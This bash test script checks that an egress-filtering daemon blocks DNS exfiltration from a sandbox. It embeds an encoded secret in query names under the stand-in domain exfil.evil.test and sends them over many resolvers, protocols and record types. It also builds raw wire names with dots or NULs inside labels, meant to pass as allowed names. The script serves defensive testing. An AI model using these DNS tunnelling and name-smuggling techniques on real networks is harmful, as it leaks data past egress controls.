#!/bin/bash
# threat_10_exfil (THREATS §10, §7): the sandbox hides data in the labels
# of names under a denied domain and sends them every way it can: the
# system resolver over UDP and TCP, hard-coded resolver addresses (IPv4
# and IPv6, UDP and TCP), egressd's own port, the metadata address as a
# resolver, many query types, reverse names, 0x20 case and a trailing dot,
# and raw wire names whose labels contain dots or NULs so that a careless
# presentation form would look like an allowed name ("dotlbl.a.test" as
# one label; "x.a.test<NUL>" before .exfil.evil.test, which a C string
# cuts to x.a.test). What egressd forwards is observed at the far side,
# byte for byte: its upstream is servers/dnstap.py, which records every
# query it receives before relaying it to dns1 (dnsmasq drops names with
# dots or NULs in a label before its own query log, so that log alone
# could never see them forwarded). The tap is shown to record such names
# (sent to it directly) and to see an allowed name egressd forwards; it
# must never see any of the sandbox's data. A CNAME into a denied name
# makes egressd ask nothing more about the target.
set -u -o pipefail
. "$(dirname "$0")/../lib/testbed.sh"
tb_setup

pol=$(tb_policy_file policy.yaml <<'EOF'
defaultAction: deny
egress:
  - {action: allow, target: a.test}
  - {action: allow, target: "*.a.test"}
  - {action: allow, target: cname-bad.test}
EOF
)
# the tap on dns2's address, relaying to dns1; egressd's only upstream
TAP_LOG=$TB_DIR/dns/tap.log
tb_net_bg "$TB_DIR/dns/tap.err" "$TB_PY" "$TB_SERVERS_DIR/dnstap.py" \
    "$TB_DNS2_IP4" 53 "$TB_DNS1_IP4" "$TAP_LOG" "$TB_DIR/dns/tap.ready"
tb_wait_file "$TB_DIR/dns/tap.ready" || tb_die "dnstap did not start"
tb_start_egressd --policy "$pol" --dns-upstream "$TB_DNS2_IP4:53"

# tap_saw [--since N] NEEDLE...: 0 when some query the tap recorded
# (after its first N) holds one of the NEEDLEs (Python bytes literals,
# compared without case) anywhere in its bytes, printing it; 1 when none
# does; 2 when the log cannot be read. tap_saw_none: exactly 1.
tap_saw()
{
	local since=0
	[ "$1" = --since ] && { since=$2; shift 2; }
	"$TB_PY" - "$TAP_LOG" "$since" "$@" <<'PY'
import ast, json, sys
try:
    log, since, needles = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
    needles = [ast.literal_eval("b'" + n + "'").lower() for n in needles]
    qs = [json.loads(line) for line in open(log).readlines()[since:]]
    found = [q for q in qs
             if any(n in bytes.fromhex(q["msg"]).lower() for n in needles)]
except Exception as e:
    print("tap_saw:", e)
    sys.exit(2)
for q in found[:1]:
    print(q["proto"], bytes.fromhex(q["msg"]))
sys.exit(0 if found else 1)
PY
}
tap_saw_none()
{
	local rc=0
	tap_saw "$@" || rc=$?
	[ "$rc" -eq 1 ]
}

secret=aGVsbG8td29ybGQtc2VjcmV0LTQy
q() { tb_sandbox dig +time=2 +tries=1 "$@" 2>&1; }
status() { sed -n 's/.*status: \([A-Z]*\).*/\1/p' <<<"$1"; }

# The tap records what dnsmasq never logs: names with a dot or a NUL in
# a label, sent to it directly (UDP and TCP) from the internet side.
tb_net "$TB_PY" - "$TB_DNS2_IP4" <<'PY' >"$TB_DIR/tap-control.out" 2>&1
import socket, struct, sys
m = (struct.pack(">HHHHHH", 0x5252, 0x0100, 1, 0, 0, 0) +
     b"\x0ectl.dot.a.test\x0cctl.nul\x00evil\x04test\x00\x00\x01\x00\x01")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(m, (sys.argv[1], 53))
s = socket.create_connection((sys.argv[1], 53), timeout=2)
s.sendall(struct.pack(">H", len(m)) + m)
s.settimeout(2)
try:
    s.recv(2)
except OSError:
    pass
PY
tb_wait_line "$TAP_LOG" '"tcp"' || tb_fail "the tap logged no TCP query"
tb_check "the tap records a dot inside a label" tap_saw 'ctl.dot.a.test'
tb_check "... and a NUL inside a label" tap_saw 'ctl.nul\x00evil'
TAP0=$(wc -l <"$TAP_LOG")

# ... and sees what egressd forwards: an allowed name (which the zone does
# not have) goes upstream and comes back NXDOMAIN from there.
tb_expect_eq "an allowed name is forwarded" NXDOMAIN \
    "$(status "$(q "$secret.x.a.test" A)")"
tb_check "the tap saw it" tap_saw --since "$TAP0" "$secret"
tb_assert_dns_query dns1 "$secret\\.x\\.a\\.test"
TAP1=$(wc -l <"$TAP_LOG")

# --- every path, every type ---------------------------------------------------------
n=0
for how in "" "+tcp" "@$TB_RESOLVER_X4" "+tcp @$TB_RESOLVER_X4" \
    "@$TB_RESOLVER_X6" "+tcp @$TB_RESOLVER_X6" "-p 15353 @127.0.0.1" \
    "+tcp -p 15353 @::1" "@$TB_META4"; do
	n=$((n + 1))
	# shellcheck disable=SC2086 # $how is a list of dig arguments
	out=$(q $how "c$n.$secret.exfil.evil.test" TXT)
	tb_expect_eq "denied name via '${how:-resolv.conf}': NXDOMAIN" NXDOMAIN \
	    "$(status "$out")"
done
for t in A AAAA TXT MX NULL ANY HTTPS SRV CAA; do
	out=$(q "t-$t.$secret.exfil.evil.test" "$t")
	tb_expect_match "type $t: NXDOMAIN or refused locally" \
	    "^(NXDOMAIN|NOTIMP|REFUSED)$" "$(status "$out")"
done
out=$(q "CaSe.${secret^^}.ExFiL.EvIl.TeSt." A)
tb_expect_eq "0x20 case and a trailing dot: NXDOMAIN" NXDOMAIN "$(status "$out")"
out=$(q -x 198.51.100.77)
tb_expect_eq "a reverse name (data in the address): NXDOMAIN" NXDOMAIN \
    "$(status "$out")"

# --- wire names a careless presentation form would misread ---------------------------
raw=$(tb_sandbox "$TB_PY" - <<'EOF'
import socket, struct
def ask(wire, tcp=False):
    m = struct.pack(">HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0) + wire + b"\0\x01\0\x01"
    if tcp:
        s = socket.create_connection(("127.0.0.1", 15353), timeout=2)
        s.sendall(struct.pack(">H", len(m)) + m)
        r = s.recv(2) and s.recv(4096)
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.sendto(m, ("198.51.100.1", 53))   # redirected to egressd
        r = s.recv(4096)
    s.close()
    return "rcode%d" % (r[3] & 15) if r[:2] == b"\x51\x51" else "bad"
def lab(*ls):
    return b"".join(bytes([len(l)]) + l for l in ls) + b"\0"
# One label "dotlbl.a.test": as text it ends like the allowed a.test.
# "x.a.test<NUL>nullbl" then exfil.evil.test: a C string ends at
# x.a.test; and a NUL inside a label after nullbl.a.test, the same cut.
for name, wire in (
        ("dot_label", lab(b"dotlbl.a.test")),
        ("nul_label", lab(b"x.a.test\0nullbl", b"exfil", b"evil", b"test")),
        ("nul_mid", lab(b"nullbl", b"a", b"test\0exfil", b"evil", b"test"))):
    print(name, ask(wire))
    print(name + "_tcp", ask(wire, tcp=True))
EOF
)
echo "$raw" | sed 's/^/# /'
for k in dot_label nul_label nul_mid; do
	tb_expect_match "$k (UDP) is answered with an error, not an answer" \
	    "^$k rcode[1-5]$" "$(grep "^$k " <<<"$raw")"
	tb_expect_match "$k (TCP) too" "^${k}_tcp rcode[1-5]$" \
	    "$(grep "^${k}_tcp " <<<"$raw")"
done

# --- CNAME into a denied name --------------------------------------------------------
tb_expect_eq "allowed alias of denied b.test: NXDOMAIN" NXDOMAIN \
    "$(status "$(q cname-bad.test A)")"
tb_assert_dns_query dns1 'cname-bad\.test'

# --- what the upstream saw -----------------------------------------------------------
# byte for byte at the tap, since the allowed name above (dnsmasq's log
# below, for what it can see)
for n in exfil evil dotlbl nullbl "$secret" 'in-addr'; do
	tb_check "the tap saw no query holding '$n'" \
	    tap_saw_none --since "$TAP1" "$n"
done
tb_assert_no_dns_query dns1 ".*exfil.*"
tb_assert_no_dns_query dns1 ".*evil.*"
tb_assert_no_dns_query dns1 ".*dotlbl.*"
tb_assert_no_dns_query dns1 '(www\.)?b\.test'
tb_assert_no_dns_query dns1 '.*in-addr\.arpa'
tb_assert_no_log "$TB_ECHO_LOG" '*' server.port=53
tb_assert_log "$TB_EGRESSD_LOG" dns.deny "name~exfil\\.evil\\.test$"
tb_finish
